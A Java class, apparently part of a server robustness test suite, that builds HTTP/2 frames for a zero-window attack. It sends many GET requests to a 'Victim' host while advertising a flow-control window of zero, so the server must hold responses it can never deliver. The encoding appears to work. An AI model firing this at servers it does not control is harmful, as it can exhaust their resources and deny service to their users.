package org.operationsgateway.robustness.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;

/**
 * The frames of an HTTP/2 client.
 *
 * @see <a href="https://www.rfc-editor.org/rfc/rfc9113#section-4.1">RFC 9113, Frame Format</a>
 */
final class Http2Frames {

    private static final String PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

    private static final int HEADERS = 1;
    private static final int SETTINGS = 4;
    private static final int END_STREAM_AND_HEADERS = 5;
    private static final int INITIAL_WINDOW_SIZE = 4;

    /** The indexed field {@code :method: GET} of the static table (RFC 7541). */
    private static final int METHOD_GET = 0x82;

    private static final int SCHEME_HTTP = 0x86;
    /** A literal without indexing, with a name of the static table. */
    private static final int AUTHORITY = 0x01;

    private static final int PATH = 0x04;

    private Http2Frames() {}

    /** Returns GET requests of a client that accepts no byte of their responses. */
    static byte[] requestsWithoutWindow(String path, int count) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.write(PREFACE.getBytes(US_ASCII));
        bytes.write(frame(SETTINGS, 0, 0, new byte[] {0, INITIAL_WINDOW_SIZE, 0, 0, 0, 0}));
        for (int i = 0; i < count; i++) {
            bytes.write(frame(HEADERS, END_STREAM_AND_HEADERS, 2 * i + 1, fields(path)));
        }
        return bytes.toByteArray();
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        DataOutputStream frame = new DataOutputStream(bytes);
        frame.writeByte(payload.length >> Short.SIZE);
        frame.writeShort(payload.length);
        frame.writeByte(type);
        frame.writeByte(flags);
        frame.writeInt(stream);
        frame.write(payload);
        return bytes.toByteArray();
    }

    private static byte[] fields(String path) throws IOException {
        ByteArrayOutputStream fields = new ByteArrayOutputStream();
        fields.write(METHOD_GET);
        fields.write(SCHEME_HTTP);
        literal(fields, AUTHORITY, Victim.HOST);
        literal(fields, PATH, path);
        return fields.toByteArray();
    }

    /** Writes a value shorter than 127 bytes, without Huffman coding. */
    private static void literal(ByteArrayOutputStream fields, int name, String value) throws IOException {
        fields.write(name);
        fields.write(value.length());
        fields.write(value.getBytes(US_ASCII));
    }
}
